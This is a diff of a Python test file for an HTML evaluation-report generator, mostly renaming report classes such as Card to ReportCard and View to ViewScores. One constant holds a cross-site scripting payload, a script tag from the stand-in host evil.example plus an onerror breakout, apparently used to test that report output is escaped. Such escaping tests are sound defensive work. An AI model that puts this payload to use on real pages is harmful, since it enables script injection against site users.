@@ -14,8 +14,8 @@ from tgqformer.evaluation.cost import Cost
 from tgqformer.evaluation.masks import pool_mask
 from tgqformer.evaluation.metrics import METRICS, Queries, evaluate, nearest
 from tgqformer.evaluation.pictures import outline, overlay, thumbnail
-from tgqformer.evaluation.report import AttentionExample, Card, NeighbourExample, Report, amount, write_report
-from tgqformer.evaluation.results import Result, View, summarize
+from tgqformer.evaluation.report import AttentionExample, NeighbourExample, Report, ReportCard, amount, write_report
+from tgqformer.evaluation.results import Result, ViewScores, summarize
 from tgqformer.evaluation.tables import percent
 
 HOSTILE = '<script src="http://evil.example/x.js">alert(1)</script>" onerror="x'
@@ -78,7 +78,7 @@ def made_report() -> Report:
     for name, (strength, noise) in settings.items():
         for seed in range(3):
             views = {
-                view: View.of(
+                view: ViewScores.of(
                     evaluate(vectors(strength, noise * more, seed), queries),
                     [f"p{i}" for i in range(ITEMS)],
                     facts if view == "mixed" else None,
@@ -116,13 +116,13 @@ def made_examples(queries: Queries, settings: dict[str, tuple[float, float]]) ->
             pairs = zip(found[0].tolist(), scores[0].tolist(), strict=True)
             rows[name] = [made_card(i, hit=i in positives, score=score) for i, score in pairs]
         examples.append(NeighbourExample(made_card(query), rows))
-    hostile = Card("p<0>", HOSTILE, None, True, 0.5)
+    hostile = ReportCard("p<0>", HOSTILE, None, True, 0.5)
     return [*examples, NeighbourExample(hostile, {"MLP": [hostile]})]
 
 
-def made_card(i: int, *, hit: bool = False, score: float | None = None) -> Card:
+def made_card(i: int, *, hit: bool = False, score: float | None = None) -> ReportCard:
     title = f"{COLORS[i % 6].capitalize()} {KINDS[i // 6 % 4]} no. {i}"
-    return Card(f"p{i}", title, with_banner(drawn(i))[0] if i % 3 == 0 else drawn(i), hit, score)
+    return ReportCard(f"p{i}", title, with_banner(drawn(i))[0] if i % 3 == 0 else drawn(i), hit, score)
 
 
 def made_attention() -> tuple[list[AttentionExample], dict]:
@@ -261,7 +261,7 @@ def test_sections_without_data_are_left_out(tmp_path: Path) -> None:
 
 def test_one_model_alone_is_compared_with_nobody(tmp_path: Path) -> None:
     queries = Queries.from_pairs(np.arange(20), np.arange(20) + 24)
-    view = View.of(evaluate(vectors(1, 0.5, 0), queries), [f"p{i}" for i in range(ITEMS)])
+    view = ViewScores.of(evaluate(vectors(1, 0.5, 0), queries), [f"p{i}" for i in range(ITEMS)])
     report = Report("One", results=[Result("MLP", 0, {"mixed": view})])
     page = Page(write_report(tmp_path / "one.html", report).read_text())
     assert page.ids() == ["results", "how"]
@@ -273,8 +273,8 @@ def test_a_metric_or_view_that_one_model_lacks_is_an_empty_cell(tmp_path: Path) 
     query = [str(i) for i in range(30)]
     full = {metric: np.linspace(0, 1, 30) for metric in METRICS}
     results = [
-        Result("MLP", 0, {"mixed": View(query, full), "clean": View(query, full)}),
-        Result("Q-Former", 0, {"mixed": View(query, {"mrr": np.ones(30)})}),
+        Result("MLP", 0, {"mixed": ViewScores(query, full), "clean": ViewScores(query, full)}),
+        Result("Q-Former", 0, {"mixed": ViewScores(query, {"mrr": np.ones(30)})}),
     ]
     page = Page(write_report(tmp_path / "partial.html", Report("Partial", results=results)).read_text())
     assert "Q-Former" in page.text
